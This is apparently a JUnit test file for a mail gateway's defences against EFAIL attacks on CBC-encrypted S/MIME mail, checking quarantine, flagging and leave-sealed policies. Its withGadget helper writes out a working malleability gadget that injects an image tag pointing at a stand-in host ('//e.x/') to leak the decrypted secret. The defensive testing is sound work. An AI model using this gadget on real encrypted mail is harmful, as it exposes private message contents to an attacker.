package org.postseal.gateway.road.pipeline;

import static org.assertj.core.api.Assertions.assertThat;
import static org.postseal.gateway.road.pipeline.TestRoad.LMTP;

import java.io.ByteArrayOutputStream;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.bouncycastle.asn1.ASN1Set;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.cms.ContentInfo;
import org.bouncycastle.asn1.cms.EncryptedContentInfo;
import org.bouncycastle.asn1.cms.EnvelopedData;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.postseal.gateway.mail.RawMessage;
import org.postseal.gateway.smime.Sendable;
import org.postseal.policy.outcome.Reason;
import org.postseal.policy.protection.EncryptionSettings;

/**
 * An attacker changed a ciphertext in CBC so that its text becomes part of an address of the attacker's (EFAIL,
 * "malleability gadgets"), under each word of {@code onSuspicious}. Or the attacker only put a ciphertext between other
 * parts, which no word opens.
 */
class EfailGadgetTest {
    private static final String SECRET = "the secret 7f3a";
    private static final EncryptionSettings CBC =
            new EncryptionSettings(EncryptionSettings.Cipher.AES256_CBC, EncryptionSettings.RsaKeyTransport.PKCS1);
    private static final String RULE = "{ id: in, when: { direction: inbound }, then: %s }";
    private static final String CLOSED = "alice@example.com";
    private static final String HELD = "quarantine@example.com";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "mailboxPolicy                   | " + CLOSED,
                "{ onSuspicious: redirect }      | " + HELD,
                "{ onSuspicious: leaveClosed }   | " + CLOSED,
                "{ onUnauthenticated: deliver }  | " + CLOSED
            })
    void whatLooksChangedComesOutForNobody(String then, String recipient) throws Exception {
        for (int i = 0; i < 20; i++) {
            byte[] message = withGadget();
            TestRoad road = new TestRoad(RULE.formatted(then));

            assertThat(road.send(Letter.inbound(LMTP, Parties.ALICE), RawMessage.of(message)))
                    .containsExactly(Delivered.ACCEPTED);

            assertThat(road.sent()).hasSize(1);
            RecordingDelivery.Sent sent = road.sent().getFirst();
            assertThat(recipient.equals(HELD) ? sent.octets() : SealedCopy.attached(sent.octets()))
                    .isEqualTo(message);
            assertThat(sent.recipients()).containsExactly(recipient);
            assertThat(road.audited(done -> done.decision().reason()))
                    .containsExactly(
                            recipient.equals(HELD) ? Optional.of(Reason.CONTENT_SUSPICIOUS.name()) : Optional.empty());
        }
    }

    @ParameterizedTest
    @CsvSource({"true, quarantine@example.com", "false, alice@example.com"})
    void aRuleCanNameIt(boolean isChanged, String recipient) throws Exception {
        TestRoad road = new TestRoad("{ id: look, when: { direction: inbound, suspicious: true }, then: reject }");
        byte[] message = isChanged ? withGadget() : unchanged();

        assertThat(road.send(Letter.inbound(LMTP, Parties.ALICE), RawMessage.of(message)))
                .containsExactly(Delivered.ACCEPTED);

        assertThat(road.sent().getFirst().recipients()).containsExactly(recipient);
        assertThat(road.sent().getFirst().unit())
                .isInstanceOf(isChanged ? Sendable.Untouched.class : Sendable.Opened.class);
    }

    /** The attack works if the policy lets it through. Without the gadget the mail is opened, whatever the word. */
    @ParameterizedTest
    @CsvSource({"deliver, true", "redirect, false", "leaveClosed, false", "deliver, false"})
    void whatIsDeliveredIsOpened(String word, boolean isChanged) throws Exception {
        TestRoad road = new TestRoad(RULE.formatted("{ onSuspicious: " + word + " }"));
        byte[] message = isChanged ? withGadget() : unchanged();

        road.send(Letter.inbound(LMTP, Parties.ALICE), RawMessage.of(message));

        assertThat(road.sent().getFirst().unit()).isInstanceOf(Sendable.Opened.class);
        assertThat(road.audited(done -> done.protection().added()).getFirst().replaceAll(": .*", ""))
                .isEqualTo("opened AES256_CBC, unauthenticated" + (isChanged ? ", suspicious" : ""));
    }

    static Stream<String> words() {
        return Stream.of("redirect", "leaveClosed", "deliver");
    }

    @ParameterizedTest
    @MethodSource("words")
    void ciphertextBetweenPartsOfAnAttackerStaysCiphertext(String word) {
        List<EfailTest.Shape> shapes = EfailTest.below().toList();
        assertThat(shapes).isNotEmpty();
        for (EfailTest.Shape shape : shapes) {
            TestRoad road = new TestRoad(RULE.formatted(
                    "{ onSuspicious: " + word + ", onUnauthenticated: deliver, onInvalidSignature: deliver }"));

            road.send(Letter.inbound(LMTP, Parties.ALICE), shape.message());

            assertThat(road.sent().getFirst().octets()).as(shape.name()).isEqualTo(TestRoad.octets(shape.message()));
            assertThat(road.sent().getFirst().unit()).isInstanceOf(Sendable.Untouched.class);
        }
    }

    private static byte[] unchanged() throws Exception {
        return mail(sealed());
    }

    private static ContentInfo sealed() throws Exception {
        String message = SpoofForge.FROM_BOB + TEXT + FOOTER.repeat(5);
        return ContentInfo.getInstance(SealedCopy.cms(SealedCopy.encrypt(CBC, message, Parties.ALICE)));
    }

    // The text of the footer is known. A block before one of its blocks that differs from the one that stood there by
    // that text and by another one turns it into the other text. The block before decrypts to random octets, as does
    // the one behind. The attacker moves the blocks, since a copy of one would be found.
    private static byte[] withGadget() throws Exception {
        ContentInfo info = sealed();
        EnvelopedData data = EnvelopedData.getInstance(info.getContent());
        EncryptedContentInfo encrypted = data.getEncryptedContentInfo();
        byte[] blocks = encrypted.getEncryptedContent().getOctets();
        byte[] known = TestRoad.octets(FOOTER);
        ByteArrayOutputStream changed = new ByteArrayOutputStream();
        changed.write(blocks, 0, 32);
        int at = TEXT.length();
        for (String text : List.of("<i>             ", "</i>            ", "<b>             ", IMAGE)) {
            byte[] before = new byte[16];
            byte[] wanted = TestRoad.octets(text);
            for (int i = 0; i < before.length; i++) {
                before[i] = (byte) (blocks[at - 16 + i] ^ known[i] ^ wanted[i]);
            }
            changed.writeBytes(before);
            changed.write(blocks, at, 16);
            at += 16;
        }
        changed.write(blocks, 32, TEXT.length() - 32);
        changed.write(blocks, at, blocks.length - at);
        EncryptedContentInfo other = new EncryptedContentInfo(
                encrypted.getContentType(),
                encrypted.getContentEncryptionAlgorithm(),
                new DEROctetString(changed.toByteArray()));
        return mail(new ContentInfo(
                info.getContentType(), new EnvelopedData(null, data.getRecipientInfos(), other, (ASN1Set) null)));
    }

    private static byte[] mail(ContentInfo object) throws Exception {
        return TestRoad.octets(SpoofForge.FROM_BOB
                + "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + SpoofForge.base64(object.getEncoded("DER")) + "\r\n");
    }

    private static final String IMAGE = "<img src=\"//e.x/";
    // The header section ends within the second block, and whole blocks end before the footer.
    private static final String TEXT =
            "Content-Type: text/html\r\n\r\n<p>Dear Alice,\r\nhere it is: " + SECRET + "\r\nYours, Bob Builder</p>\r\n";
    private static final String FOOTER = "--the footer--\r\n";
}
